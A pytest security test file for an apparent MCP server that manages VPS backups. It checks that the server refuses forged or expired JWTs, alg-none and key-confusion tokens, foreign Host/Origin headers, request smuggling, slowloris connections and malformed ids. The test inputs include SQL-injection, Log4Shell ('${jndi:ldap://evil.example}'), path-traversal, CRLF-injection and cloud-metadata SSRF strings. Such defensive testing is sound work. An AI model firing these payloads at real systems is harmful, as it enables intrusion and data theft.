"""What comes at a server that others can reach, and what it gets: a no, and nothing else."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from support.account import Upstream
from support.product import ServerProcess

from hostup_mcp.remote.limits import BODY_SECONDS
from hostup_mcp.sandbox import SANDBOX_API_KEY

from .wiring import (
    ACCEPT,
    PATIENCE,
    PUBLIC_URL,
    Caller,
    Issuer,
    Key,
    calling,
    headers_for,
    message,
    parse,
    replicas,
    rsa_key,
    serving,
    token_file,
)

MADE_UP = rsa_key("made-up")
OTHERS = 5
"""Seconds beside the limit that a busy machine may take."""


@dataclass
class House:
    """One server with tokens of a file, one with tokens of an issuer, before one account."""

    upstream: Upstream
    issuer: Issuer
    tokens: dict[str, str]
    bearer: ServerProcess
    oauth: ServerProcess

    @property
    def token(self) -> str:
        return self.tokens["web-team"]


NEWCOMER = "new-team"
"""A caller that was never given an id, whichever tests ran before on the same replica."""


@pytest.fixture(scope="module")
def house_of_module(
    upstream_of_worker: Upstream,
    issuer_of_worker: Issuer,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[House]:
    folder = tmp_path_factory.mktemp("attacks")
    path, tokens = token_file(folder, "web-team", "ops-team", NEWCOMER)
    bearer = serving(upstream_of_worker, HOSTUP_MCP_TOKENS=str(path), HOSTUP_MCP_ALLOW="all")
    oauth = serving(upstream_of_worker, HOSTUP_MCP_ALLOW="all", **issuer_of_worker.settings)
    with replicas(folder, bearer, oauth) as [one, other]:
        yield House(upstream_of_worker, issuer_of_worker, tokens, one, other)
        for replica in (one, other):
            assert "Traceback" not in replica.output()


@pytest.fixture
def house(house_of_module: House, upstream: Upstream) -> House:
    return house_of_module


def nothing_reached_hostup(house: House) -> bool:
    return house.upstream.sandbox.requests == []


# Tokens -------------------------------------------------------------------------------------------

Make = Callable[[House], str | None]


def encoded(part: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


def unsigned(house: House) -> str:
    head = encoded({"alg": "none", "kid": "first", "typ": "JWT"})
    return f"{head}.{encoded(house.issuer.claims())}."


def signed_with_the_public_key(house: House) -> str:
    public = house.issuer.keys[0].private.public_key()
    secret = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    signing = f"{encoded({'alg': 'HS256', 'kid': 'first'})}.{encoded(house.issuer.claims())}"
    signature = hmac.new(secret, signing.encode(), hashlib.sha256).digest()
    return f"{signing}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"


NOW = int(time.time())

JWTS: dict[str, Make] = {
    "none": lambda _: None,
    "wrong": lambda _: "wrong",
    "of-the-file": lambda h: h.token,
    "expired": lambda h: h.issuer.token(exp=NOW - 3600, iat=NOW - 7200),
    "not-yet-valid": lambda h: h.issuer.token(nbf=NOW + 3600),
    "issued-in-the-future": lambda h: h.issuer.token(iat=NOW + 3600),
    "without-an-end": lambda h: h.issuer.token(exp=None),
    "wrong-audience": lambda h: h.issuer.token(aud="https://other.example.com"),
    "no-audience": lambda h: h.issuer.token(aud=None),
    "other-issuer": lambda h: h.issuer.token(iss="https://evil.example"),
    "no-issuer": lambda h: h.issuer.token(iss=None),
    "nobody": lambda h: h.issuer.token(sub=None),
    "alg-none": unsigned,
    "hs256-with-the-public-key": signed_with_the_public_key,
    "unknown-kid": lambda h: h.issuer.token(MADE_UP),
    "no-kid": lambda h: jwt.encode(h.issuer.claims(), MADE_UP.private, algorithm="RS256"),
    "another-key-of-that-id": lambda h: h.issuer.token(Key("first", MADE_UP.private)),
    "kid-that-is-a-path": lambda h: h.issuer.token(Key("../../etc/passwd", MADE_UP.private)),
    "truncated": lambda h: h.issuer.token()[:-20],
    "without-signature": lambda h: h.issuer.token().rpartition(".")[0] + ".",
    "huge": lambda h: h.issuer.token(extra="x" * 20_000),
}

BEARERS: dict[str, Make] = {
    "none": lambda _: None,
    "wrong": lambda _: "hmcp_" + "A" * 43,
    "name-of-the-token": lambda _: "web-team",
    "hash-of-the-token": lambda h: hashlib.sha256(h.token.encode()).hexdigest(),
    "truncated": lambda h: h.token[:-1],
    "longer": lambda h: h.token + "x",
    "other-case": lambda h: h.token.swapcase(),
    "two-tokens": lambda h: f"{h.token} {h.token}",
    "huge": lambda _: "x" * 20_000,
    "of-an-issuer": lambda h: h.issuer.token(),
    "key-of-hostup": lambda _: SANDBOX_API_KEY,
}


async def refused(replica: ServerProcess, token: str | None) -> httpx.Response:
    async with calling() as client:
        answer = await Caller(client, replica.url, token).post("tools/call", name="list_vps")
        assert answer.status_code == 401, answer.text
        assert answer.headers["www-authenticate"].startswith("Bearer ")
        assert 'error="invalid_token"' in answer.headers["www-authenticate"]
        assert not token or len(token) < 8 or token not in answer.text + str(answer.headers)
        return answer


@pytest.mark.parametrize("which", JWTS)
async def test_invalid_jwt_gets_401(house: House, which: str) -> None:
    answer = await refused(house.oauth, JWTS[which](house))
    described = f"{PUBLIC_URL}/.well-known/oauth-protected-resource/mcp"
    assert f'resource_metadata="{described}"' in answer.headers["www-authenticate"]
    assert nothing_reached_hostup(house)


@pytest.mark.parametrize("which", BEARERS)
async def test_invalid_bearer_token_gets_401(house: House, which: str) -> None:
    await refused(house.bearer, BEARERS[which](house))
    assert nothing_reached_hostup(house)


async def test_token_only_counts_in_its_header(house: House) -> None:
    """Without this, a server that refuses everything would pass the rest of this file."""
    async with calling() as client:
        for replica, token in ((house.bearer, house.token), (house.oauth, house.issuer.token())):
            assert await Caller(client, replica.url, token).find("web-01")
            before = len(house.upstream.sandbox.requests)
            body = message("tools/call", name="list_vps", arguments={})
            for name in ("access_token", "token", "bearer_token", "authorization"):
                answer = await client.post(
                    replica.url, params={name: token}, json=body, headers=headers_for(body)
                )
                assert answer.status_code == 401
            for scheme in ("Basic", "Token", "bearertoken", ""):
                given = {**headers_for(body), "Authorization": f"{scheme} {token}".strip()}
                answer = await client.post(replica.url, json=body, headers=given)
                assert answer.status_code == 401
            body["access_token"] = token
            answer = await client.post(replica.url, json=body, headers=headers_for(body))
            assert answer.status_code == 401
            cookie = {**headers_for(body), "Cookie": f"access_token={token}; token={token}"}
            answer = await client.post(replica.url, json=body, headers=cookie)
            assert answer.status_code == 401
            assert len(house.upstream.sandbox.requests) == before


@pytest.mark.parametrize("scope", ["", "other", "hostups", "HOSTUP", "hostup:read"])
async def test_missing_scope_is_named(house: House, scope: str) -> None:
    async with calling() as client:
        caller = Caller(client, house.oauth.url, house.issuer.token(scope=scope))
        answer = await caller.post("tools/call", name="list_vps", arguments={})
    assert answer.status_code == 403
    challenge = answer.headers["www-authenticate"]
    assert 'error="insufficient_scope"' in challenge
    assert "resource_metadata=" in challenge
    assert 'scope="hostup"' in challenge
    assert nothing_reached_hostup(house)


async def test_first_challenge_names_the_scope(house: House) -> None:
    answer = await refused(house.oauth, None)
    assert 'scope="hostup"' in answer.headers["www-authenticate"]


async def test_challenge_links_to_metadata(house: House) -> None:
    async with calling() as client:
        answer = await refused(house.oauth, None)
        url = answer.headers["www-authenticate"].split('resource_metadata="')[1].split('"')[0]
        described = await client.get(url.replace(PUBLIC_URL, house.oauth.base))
    assert described.status_code == 200
    assert described.json()["resource"] == f"{PUBLIC_URL}/mcp"
    assert described.json()["authorization_servers"]


async def test_token_never_reaches_hostup(house: House) -> None:
    async with calling() as client:
        for replica, token in ((house.bearer, house.token), (house.oauth, house.issuer.token())):
            caller = Caller(client, replica.url, token)
            _, plan = await caller.planned()
            answer = await caller.call("restore_vps", planId=plan)
            await caller.call("restore_vps", answer.answered(), planId=plan)
            requests = house.upstream.sandbox.requests
            assert len(requests) > 4
            for request in requests:
                assert request.headers["authorization"] == f"Bearer {SANDBOX_API_KEY}"
                assert token not in repr(request)
            house.upstream.sandbox.requests.clear()
            house.upstream.sandbox.state.jobs.clear()


# Where it comes from ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Host": "evil.example"}, 421),
        ({"Host": "evil.example:80"}, 421),
        ({"Host": "127.0.0.1.evil.example:80"}, 421),
        ({"Host": "localhost.evil.example"}, 421),
        ({"Host": ""}, 421),
        ({"Origin": "https://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://127.0.0.1.evil.example"}, 403),
        ({"Origin": "file://"}, 403),
        ({"Host": "evil.example", "X-Forwarded-Host": "127.0.0.1:80"}, 421),
        ({"Origin": "https://evil.example", "X-Forwarded-Proto": "https"}, 403),
    ],
    ids=str,
)
async def test_foreign_host_or_origin(house: House, headers: dict[str, str], status: int) -> None:
    async with calling() as client:
        caller = Caller(client, house.bearer.url, house.token)
        answer = await caller.post("tools/call", headers, name="list_vps", arguments={})
    assert answer.status_code == status
    assert "access-control-allow-origin" not in answer.headers
    assert nothing_reached_hostup(house)


# Bodies -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "in-chunks"])
async def test_large_body_gets_413(house: House, declared: bool) -> None:
    body = message("tools/call", name="list_vps", arguments={"name": "x" * 5_000_000})
    content = json.dumps(body).encode()

    async def parts() -> Any:
        for start in range(0, len(content), 65_536):
            yield content[start : start + 65_536]

    async with calling() as client:
        answer = await client.post(
            house.bearer.url,
            content=content if declared else parts(),
            headers=headers_for(body, house.token),
        )
    assert answer.status_code == 413
    assert nothing_reached_hostup(house)


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"what is this", b"\xff\xfe", b'{"jsonrpc": "2.0"', b"\x00" * 100],
    ids=repr,
)
async def test_invalid_json_is_a_parse_error(house: House, content: bytes) -> None:
    async with calling() as client:
        headers = headers_for(message("tools/list"), house.token)
        answer = await client.post(house.bearer.url, content=content, headers=headers)
    assert answer.status_code == 400
    assert answer.json()["error"]["code"] == -32700


@pytest.mark.parametrize(
    "content",
    [
        b"[]",
        b"7",
        b"null",
        b"{}",
        b'[{"jsonrpc": "2.0", "id": 1, "method": "tools/list"}]',
        b'{"jsonrpc": "1.0", "id": 1, "method": "tools/list"}',
        b'{"jsonrpc": "2.0", "id": {}, "method": "tools/list"}',
        b'{"jsonrpc": "2.0", "id": 1, "method": 7}',
        b"[" * 100_000,
        b'{"a":' * 50_000,
    ],
    ids=range(10),
)
async def test_json_that_is_no_request(house: House, content: bytes) -> None:
    async with calling() as client:
        headers = headers_for(message("tools/list"), house.token)
        answer = await client.post(house.bearer.url, content=content, headers=headers)
        assert answer.status_code == 400
        assert "Traceback" not in answer.text
        assert await Caller(client, house.bearer.url, house.token).tools(), "and it goes on"


def exchange(replica: ServerProcess, content: bytes, seconds: float = 10) -> bytes:
    """Send bytes as they are, and read until the other side closes or is silent."""
    with socket.create_connection(("127.0.0.1", replica.port), timeout=seconds) as line:
        line.sendall(content)
        parts = []
        try:
            while part := line.recv(65_536):
                parts.append(part)
                if b"\r\n\r\n" in b"".join(parts):
                    line.settimeout(0.3)
        except (TimeoutError, ConnectionResetError):
            pass
        return b"".join(parts)


def head(house: House, *more: bytes, length: int | None = 2) -> bytes:
    lines = [
        b"POST /mcp HTTP/1.1",
        f"Host: 127.0.0.1:{house.bearer.port}".encode(),
        f"Authorization: Bearer {house.token}".encode(),
        b"Content-Type: application/json",
        f"Accept: {ACCEPT}".encode(),
    ]
    if length is not None:
        lines.append(f"Content-Length: {length}".encode())
    return b"\r\n".join([*lines, *more, b"", b""])


@pytest.mark.parametrize("pause", [0.5, None], ids=["a-drop-now-and-then", "nothing-more"])
def test_slow_body_is_closed(house: House, pause: float | None) -> None:
    began = time.monotonic()
    answer = b""
    with socket.create_connection(("127.0.0.1", house.bearer.port)) as line:
        line.sendall(head(house, length=100_000) + b"{")
        line.settimeout(pause or BODY_SECONDS + OTHERS)
        while time.monotonic() - began < BODY_SECONDS + OTHERS:
            try:
                if not (part := line.recv(65_536)):
                    break
                answer += part
            except TimeoutError:
                line.sendall(b" ")
            except OSError:
                break
        else:
            pytest.fail("the connection is still open")
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
    assert nothing_reached_hostup(house)


def test_401_comes_before_the_body(house: House) -> None:
    began = time.monotonic()
    given = head(house, length=4_000_000).replace(house.token.encode(), b"wrong")
    assert exchange(house.bearer, given).startswith(b"HTTP/1.1 401")
    assert time.monotonic() - began < OTHERS


def test_slow_headers_are_closed(house: House) -> None:
    """Whoever can connect can do that; no token is needed."""
    whole = head(house).replace(b"/mcp", b"/healthz").replace(b"POST", b"GET") + b"{}"
    lines = {
        name: socket.create_connection(("127.0.0.1", house.bearer.port))
        for name in ("says nothing", "a drop now and then", "stops after a good request")
    }
    for line in lines.values():
        line.settimeout(0.2)
    lines["stops after a good request"].sendall(whole + whole[:20])
    open_still = set(lines)
    answers = dict.fromkeys(lines, b"")
    deadline = time.monotonic() + PATIENCE
    while open_still and time.monotonic() < deadline:
        for name in sorted(open_still):
            try:
                if name == "a drop now and then":
                    lines[name].sendall(b"GET / HTTP/1.1\r\nX: 1" if not answers[name] else b"x")
                    answers[name] += b"."
                if not (part := lines[name].recv(65_536)):
                    open_still.remove(name)
                answers[name] += part
            except TimeoutError:
                continue
            except OSError:
                open_still.remove(name)
    for line in lines.values():
        line.close()
    assert open_still == set()
    assert answers["stops after a good request"].startswith(b"HTTP/1.1 200")


# Headers ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "more",
    [
        b"X-Thing: a\nX-Evil: b",
        b"X-Thing: a\rb",
        b"X-Thing: a\x00b",
        b"X Thing: a",
        b": a",
        b"Host: evil.example",
        b"Transfer-Encoding: chunked\r\nContent-Length: 3",
        b"Content-Length: 5",
        b"Content-Length: -1",
        b"Transfer-Encoding: xchunked",
        b"X-Long: " + b"x" * 200_000,
    ],
    ids=range(11),
)
def test_ambiguous_headers(house: House, more: bytes) -> None:
    answer = exchange(house.bearer, head(house, more) + b"{}")
    status = answer.split(b" ", 2)[1:2]
    if not answer:
        return  # it hung up
    assert status in ([b"400"], [b"421"], [b"431"], [b"501"]), answer[:200]
    assert b"Traceback" not in answer
    assert answer.count(b"HTTP/1.1 ") == 1, "one request, one answer"


@pytest.mark.parametrize(
    "headers",
    [
        {"Mcp-Name": "list_vps_backups"},
        {"Mcp-Name": ""},
        {"Mcp-Method": "tools/list"},
        {"Mcp-Method": ""},
        {"MCP-Protocol-Version": "2025-11-25"},
        {"MCP-Protocol-Version": "9999-01-01"},
        {"MCP-Protocol-Version": "x" * 5_000},
    ],
    ids=lambda h: next(iter(h.items()))[0] + next(iter(h.values()))[:12],
)
async def test_headers_contradicting_body(house: House, headers: dict[str, str]) -> None:
    async with calling() as client:
        caller = Caller(client, house.bearer.url, house.token)
        answer = await caller.post("tools/call", headers, name="list_vps", arguments={})
    assert answer.status_code in (400, 404), answer.text
    assert nothing_reached_hostup(house)


async def test_forwarded_headers_are_ignored(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        vps = await mine.find("web-01")
        others = Caller(client, house.bearer.url, house.tokens[NEWCOMER])
        posed = {
            "X-Forwarded-User": "web-team",
            "X-Remote-User": "web-team",
            "X-Client-Id": "web-team",
            "X-Forwarded-For": "127.0.0.1",
        }
        answer = await others.post(
            "tools/call", posed, name="list_vps_backups", arguments={"id": vps}
        )
    assert parse(answer)["result"]["structuredContent"]["error"]["kind"] == "unknown_id"


# Ids ----------------------------------------------------------------------------------------------

IDS = [
    "vps_1\r\nX-Evil: 1",
    "vps_1\n",
    "vps_1%0d%0aX-Evil: 1",
    "vps_1/../../jobs",
    "vps_1%2F..%2F..%2Fjobs",
    "vps_1?limit=1",
    "vps_1#",
    "../vps_12345",
    "vps_" + "a" * 100_000,
    "vps_1\x00",
    "vps_１２３４",
    "'; DROP TABLE vps; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "http://evil.example/vps_1",
    "",
]


@pytest.mark.parametrize("id_", IDS, ids=range(len(IDS)))
async def test_malformed_id_sends_nothing(house: House, id_: str) -> None:
    async with calling() as client:
        caller = Caller(client, house.bearer.url, house.token)
        result = await caller.call("list_vps_backups", id=id_)
        assert result.kind == "invalid_arguments"
        assert len(result.text) < 2_000
        assert "\r" not in result.text
        for tool, arguments in (
            ("plan_restore", {"id": id_, "mode": "in_place", "backupId": id_}),
            ("create_vps_backup", {"id": id_}),
            ("get_job", {"jobId": id_}),
            ("restore_vps", {"planId": id_}),
        ):
            refused = await caller.call(tool, **arguments)
            assert refused.kind in ("invalid_arguments", "unknown_id")
        uri = f"hostup://vps/{id_}/backups"
        body = message("resources/read", uri=uri)
        answer = await client.post(caller.url, json=body, headers=headers_for(body, house.token))
        assert "error" in parse(answer)
    assert nothing_reached_hostup(house)


async def test_foreign_uri_sends_nothing(house: House) -> None:
    async with calling() as client:
        caller = Caller(client, house.bearer.url, house.token)
        vps = await caller.find("web-01")
        house.upstream.sandbox.requests.clear()
        for uri in (
            f"hostup://vps/{vps}%2F..%2F..%2Fjobs/backups",
            f"hostup://vps/{vps}/../../jobs/backups",
            "hostup://vps/..%2F..%2Fapi/backups",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data",
            f"hostup://vps/{vps}/backups?x=1",
            f"hostup://vps/{vps}%00/backups",
        ):
            answer = await caller.post("resources/read", uri=uri)
            assert "error" in parse(answer), uri
    assert nothing_reached_hostup(house)


# What belongs to another caller -------------------------------------------------------------------


async def test_foreign_id_is_unknown(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        others = Caller(client, house.bearer.url, house.tokens[NEWCOMER])
        vps = await mine.find("mail")
        backups = (await mine.ok("list_vps_backups", id=vps))["backups"]
        before = len(house.upstream.sandbox.requests)
        assert (await others.call("list_vps_backups", id=vps)).kind == "unknown_id"
        assert (await others.call("create_vps_backup", id=vps)).kind == "unknown_id"
        refused = await others.call(
            "plan_restore", id=vps, mode="in_place", backupId=backups[0]["id"]
        )
        assert refused.kind == "unknown_id"
        answer = await others.post("resources/read", uri=f"hostup://vps/{vps}/backups")
        assert "error" in parse(answer)
        completed = await others.ask(
            "completion/complete",
            ref={"type": "ref/resource", "uri": "hostup://vps/{id}/backups"},
            argument={"name": "id", "value": vps[:6]},
        )
        assert vps not in completed["completion"]["values"]
        assert len(house.upstream.sandbox.requests) == before


async def test_foreign_plan_is_refused(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        others = Caller(client, house.bearer.url, house.tokens["ops-team"])
        _, plan = await mine.planned()
        await others.planned()
        refused = await others.call("restore_vps", planId=plan)
    assert refused.kind == "plan_again"
    assert "of this caller" in refused.text
    assert house.upstream.sandbox.writes == []


async def test_altered_plan_is_refused(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        _, plan = await mine.planned()
        elsewhere = Caller(client, house.oauth.url, house.issuer.token())
        _, foreign = await elsewhere.planned()
        swapped = plan[:-1] + ("a" if plan[-1] != "a" else "b")
        for wrong in (swapped, foreign):
            assert (await mine.call("restore_vps", planId=wrong)).kind == "plan_again", wrong
        for wrong in (plan[:-4], plan.upper(), "v1.AAAA", "plan_" + "a" * 2_000):
            assert (await mine.call("restore_vps", planId=wrong)).kind == "invalid_arguments", wrong
        assert house.upstream.sandbox.writes == []


async def test_foreign_yes_is_refused(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        others = Caller(client, house.bearer.url, house.tokens["ops-team"])
        _, plan = await mine.planned()
        asked = await mine.call("restore_vps", planId=plan)
        _, theirs = await others.planned()
        await others.call("restore_vps", planId=theirs)
        for plan_id in (plan, theirs):
            answer = await others.post(
                "tools/call",
                name="restore_vps",
                arguments={"planId": plan_id},
                **asked.answered(),
            )
            assert answer.status_code == 400, answer.text
            assert parse(answer)["error"]["data"]["reason"] == "invalid_request_state"
        assert house.upstream.sandbox.writes == []


async def test_yes_fits_one_question(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        _, plan = await mine.planned("web-01")
        _, other = await mine.planned("web-01")
        asked = await mine.call("restore_vps", planId=plan)
        answer = await mine.post(
            "tools/call", name="restore_vps", arguments={"planId": other}, **asked.answered()
        )
        assert answer.status_code == 400
        without_state = {"inputResponses": asked.answered()["inputResponses"]}
        again = await mine.call("restore_vps", without_state, planId=plan)
        assert house.upstream.sandbox.writes == [] or again.kind, again.raw
        assert house.upstream.sandbox.writes == []


async def test_yes_counts_once(house: House) -> None:
    async with calling() as client:
        mine = Caller(client, house.bearer.url, house.token)
        _, plan = await mine.planned()
        asked = await mine.call("restore_vps", planId=plan)
        first = await mine.call("restore_vps", asked.answered(), planId=plan)
        assert first.kind is None, first.text
        for _ in range(3):
            again = await mine.call("restore_vps", asked.answered(), planId=plan)
            assert again.kind == "plan_used"
        assert len(house.upstream.sandbox.writes) == 1


def handshake(number: int, method: str, **params: Any) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": number, "method": method, "params": params}


HELLO = handshake(
    1,
    "initialize",
    protocolVersion="2025-11-25",
    capabilities={},
    clientInfo={"name": "raw", "version": "1"},
)


async def test_foreign_session_is_unknown(house: House) -> None:
    async with calling() as client:

        async def post(
            token: str | None, body: dict[str, Any], session: str | None = None
        ) -> httpx.Response:
            headers = {"Accept": ACCEPT, "MCP-Protocol-Version": "2025-11-25"}
            if token is not None:
                headers["Authorization"] = f"Bearer {token}"
            if session is not None:
                headers["Mcp-Session-Id"] = session
            return await client.post(house.bearer.url, json=body, headers=headers)

        opened = await post(house.token, HELLO)
        assert opened.status_code == 200
        session = opened.headers["mcp-session-id"]
        await post(house.token, {"jsonrpc": "2.0", "method": "notifications/initialized"}, session)
        listing = handshake(2, "tools/list")
        assert (await post(house.token, listing, session)).status_code == 200
        others = house.tokens["ops-team"]
        assert (await post(others, listing, session)).status_code == 404
        assert (await post(None, listing, session)).status_code == 401
        assert (await post(others, listing, "0" * 32)).status_code == 404
        stop = {"Authorization": f"Bearer {others}", "Mcp-Session-Id": session}
        assert (await client.delete(house.bearer.url, headers=stop)).status_code == 404
        assert (await post(house.token, listing, session)).status_code == 200, "it is still there"


async def test_foreign_sse_stream_is_unknown(upstream: Upstream, tmp_path: Path) -> None:
    path, tokens = token_file(tmp_path, "web-team", "ops-team")
    env = serving(upstream, HOSTUP_MCP_TOKENS=str(path))
    with replicas(tmp_path, env, transport="sse") as [replica]:
        async with calling() as client:

            async def post(where: str, token: str | None) -> int:
                given = {"Authorization": f"Bearer {token}"} if token is not None else {}
                answer = await client.post(replica.base + where, json=HELLO, headers=given)
                return answer.status_code

            mine, others = tokens["web-team"], tokens["ops-team"]
            for token in (None, "wrong"):
                given = {"Authorization": f"Bearer {token}"} if token else {}
                assert (await client.get(replica.url, headers=given)).status_code == 401
            given = {"Authorization": f"Bearer {mine}"}
            async with client.stream("GET", replica.url, headers=given) as stream:
                assert stream.status_code == 200
                lines = stream.aiter_lines()
                while not (line := await anext(lines)).startswith("data:"):
                    pass
                where = line.removeprefix("data:").strip()
                assert await post(where, None) == 401
                assert await post(where, "wrong") == 401
                assert await post(where, others) == 404
                assert await post(where, mine) == 202, "it is still there"
            foreign = {"Authorization": f"Bearer {mine}", "Origin": "https://evil.example"}
            assert (await client.get(replica.url, headers=foreign)).status_code == 403
        assert "Traceback" not in replica.output()


async def test_clients_of_a_subject_are_apart(house: House) -> None:
    async with calling() as client:
        desk = Caller(client, house.oauth.url, house.issuer.token(client_id="desk"))
        phone = Caller(client, house.oauth.url, house.issuer.token(client_id="phone"))
        again = Caller(client, house.oauth.url, house.issuer.token(client_id="desk", jti="2"))
        vps = await desk.find("web-01")
        assert (await phone.call("list_vps_backups", id=vps)).kind == "unknown_id"
        assert (await again.call("list_vps_backups", id=vps)).kind is None, "a fresh token will do"


def test_other_paths_get_404(house: House) -> None:
    for path in ("/", "/metrics", "/mcp/../admin", "/docs", "/openapi.json", "/sse", "/.env"):
        with httpx.Client(trust_env=False, timeout=10) as client:
            given = {"Authorization": f"Bearer {house.token}"}
            answer = client.get(house.bearer.base + path, headers=given)
        assert answer.status_code == 404, path


def test_no_server_header(house: House) -> None:
    with httpx.Client(trust_env=False, timeout=10) as client:
        assert "server" not in client.get(house.bearer.base + "/healthz").headers


@pytest.mark.parametrize("which", ["bearer", "oauth"])
async def test_every_method_needs_a_token(house: House, tmp_path: Path, which: str) -> None:
    replica: ServerProcess = getattr(house, which)
    async with calling() as client:
        for method in ("GET", "DELETE", "POST", "OPTIONS", "PUT"):
            answer = await client.request(method, replica.url, headers={"Accept": ACCEPT})
            assert answer.status_code in (401, 405), method
